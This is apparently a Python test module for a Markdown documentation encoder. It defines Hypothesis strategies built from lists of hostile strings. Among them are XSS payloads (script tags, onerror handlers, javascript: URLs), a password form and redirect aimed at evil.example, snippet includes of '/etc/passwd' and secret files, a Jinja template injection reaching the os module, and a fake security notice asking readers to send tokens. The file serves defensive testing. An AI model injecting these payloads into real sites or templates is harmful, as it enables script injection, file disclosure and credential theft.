"""Hostile text for the encoder tests: the payloads of every known vector, and a strategy mixing them."""

from __future__ import annotations

from hypothesis import strategies as st

from a2a_docgen.limits import DEFAULT_LIMITS
from a2a_docgen.model import JSONValue

__all__ = ["ALL_PAYLOADS", "HOSTILE", "JSON_VALUES", "MORE_PAYLOADS", "PAYLOADS", "URL_PAYLOADS"]

PAYLOADS: tuple[str, ...] = (
    "<script>alert(document.domain)</script>",
    "<img src=x onerror=alert(document.domain)>",
    "<svg onload=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    '<a href="javascript:alert(1)">click</a>',
    "<style>body{display:none}</style>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "<form action=https://evil.example><input name=password type=password></form>",
    "<!-- unterminated comment",
    "<textarea>",
    "\\<script>alert(1)\\</script>",
    "&lt;/title&gt;&lt;script&gt;alert('t')&lt;/script&gt;",
    "</title><script>alert('t2')</script>",
    "\"><script>alert('attr')</script>",
    "' onmouseover='alert(1)",
    "&#60;img src=x onerror=alert(1)&#62;",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java&#x09;script:alert(1)",
    "&#106;avascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    'https://ok.example/"onmouseover="alert(1)',
    "https://trusted.example@evil.example/",
    "x](javascript:alert(1)) [y",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "a | b | c | d",
    "cell\n\n# injected heading",
    "a` <img src=x onerror=alert(1)> `b",
    "x\n```\n\n<script>alert('fence')</script>\n\n```",
    "x\n````\n~~~\n# after fence",
    "# Injected H1",
    "text\n===",
    "text\n---",
    "> quote\n> more",
    "    indented code",
    "1. one\n2. two",
    "- [x] task",
    "[TOC]",
    "*[Agent]: <img src=x onerror=alert(1)>\n\nAgent",
    "Note[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    "Term\n:   Definition",
    'Click me\n{: onclick="alert(1)" }',
    '[ok](https://ok.example/){: href="javascript:alert(1)" onclick="alert(1)" }',
    "Title {: #__config }",
    "__config",
    'Overlay\n{: style="position:fixed;top:0;left:0;width:100%;height:100%" }',
    '<div markdown="1" onclick="alert(1)">**bold**</div>',
    '--8<-- "secret.txt"',
    "--8<--\nsecret.txt\n--8<--",
    '--8<-- "/etc/passwd"',
    '-8<- "mkdocs.yml"',
    ';--8<-- "secret.txt"',
    "{{ 1111*7 }}",
    "{% for x in range(3) %}LOOP{% endfor %}",
    "{{ self.__init__.__globals__.__builtins__.__import__('os').getcwd() }}",
    '!!! danger "Official security notice"\n    Send your token to https://evil.example',
    '??? note "x"\n    hidden',
    '=== "Tab"\n    tab',
    ":material-check-decagram: Verified",
    "www.evil.example https://evil.example/login @admin #1",
    "++ctrl+alt+del++ ==mark== ~~del~~ ^^ins^^ $x^2$",
    "Safe\u202egnp.exe",
    "zero\u200bwidth\u200d\ufeff",
    "nul\u0000byte\u0007bell\u001b[31m",
    "line\u2028sep\u2029para\u0085nel",
    "\U0001f600 emoji \u0301combining",
    "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
    "",
    "   ",
    "\\",
    "`",
    "&",
    "&amp;lt;b&amp;gt;",
    "mkdocs search results",
    "__drawer",
    "Home",
)

URL_PAYLOADS: tuple[str, ...] = (
    "https://trusted.example@evil.example/",
    "http://[::1]:99999/",
    "https://exa mple.com/",
    "https://example.com/\u202e/",
    "//evil.example/x",
    "HTTPS://EXAMPLE.COM/%0d%0a",
    "https://example.com/" + "a" * (DEFAULT_LIMITS.max_url_chars - 19),
    "https://ok.example/{{ 7*7 }}/--8<--/`x`/<b>/[x](y)",
    "mailto:ops@example.com?body=--8<--",
    "\ud800",
)
MORE_PAYLOADS: tuple[str, ...] = (
    "{-- deleted --} {++ added ++} {~~ a ~> b ~~} {== marked ==} {>> comment <<}",
    "{!/etc/hostname!} {!secret.txt!}",
    "[[ 7*7 ]] << 7*7 >> [% x %]",
    "@@include secret.txt@@",
    "fixed in 0123456789abcdef0123456789abcdef01234567 (octo/site#1, @octo, !2)",
    "a. first\niv) fourth",
    "title: </title><script>alert(1)</script>\n\nbody",
    "/// admonition | Title\nbody\n///",
    "1st 2nd (c) 1/2 c/o +/- =/= <-- -->",
    "_c/o (_c/o) c/o_",  # an encoded "_" beside c/o ends a word for smartsymbols' \bc/o\b
    "0_www.example after",  # GitHub links a "www." after "_", one of GFM's delimiters
    "=0/0",  # a link label: "[=0/0]" is a progress bar for pymdownx.progressbar
    "x &#x09 y",  # Python-Markdown reads a numeric character reference without its ";"
    "&#* and `</title>`",  # an "&#" that starts no reference swallowed text after it in Python-Markdown
)
ALL_PAYLOADS = PAYLOADS + URL_PAYLOADS + MORE_PAYLOADS

PIECES = (
    *PAYLOADS,
    "www.",
    "(c)",
    "(tm)",
    "1/2",
    "c/o",
    "-->",
    "--8<--",
    "-8<-",
    "{{",
    "}}",
    "{%",
    "{#",
    ":smile:",
    ":white_check_mark: done, write to ops@example.com (c) 2025 (tm)",
    "https://",
    "javascript:",
    "\n\n",
    "\n",
    "1. ",
    "2) ",
    "    ",
    "|",
    "`",
    "```",
    "~~~",
    "<br>",
    "&#60;",
    "&amp;",
    "](",
    "![",
    "[^1]:",
    "*[",
    "{:",
    "!!! ",
    "??? ",
    "=== ",
    "@user",
    "#12",
    "!12",
    "?12",
    "\\",
)
CHARS = st.sampled_from(
    [
        *"abcostwWx019 \t\n\r",
        *"!\"#$%&'()*+,-./:;<=>?@[\\]^_`{|}~",
        *"\u202e\u200b\u200d\u2028\u0085\x00\x1b\u00a0\u00e9\u0301",
        *"\U0001f469\U000e0041\ud800\ufeff\u3000\uff57",
    ]
)
HOSTILE = st.lists(st.one_of(st.text(CHARS, max_size=6), st.sampled_from(PIECES)), max_size=8).map("".join)
JSON_VALUES: st.SearchStrategy[JSONValue] = st.recursive(
    st.none()
    | st.booleans()
    | st.integers()
    | st.floats(allow_nan=False, allow_infinity=False)
    | HOSTILE
    | st.text(max_size=20),
    lambda children: st.lists(children, max_size=4) | st.dictionaries(HOSTILE, children, max_size=4),
    max_leaves=12,
)
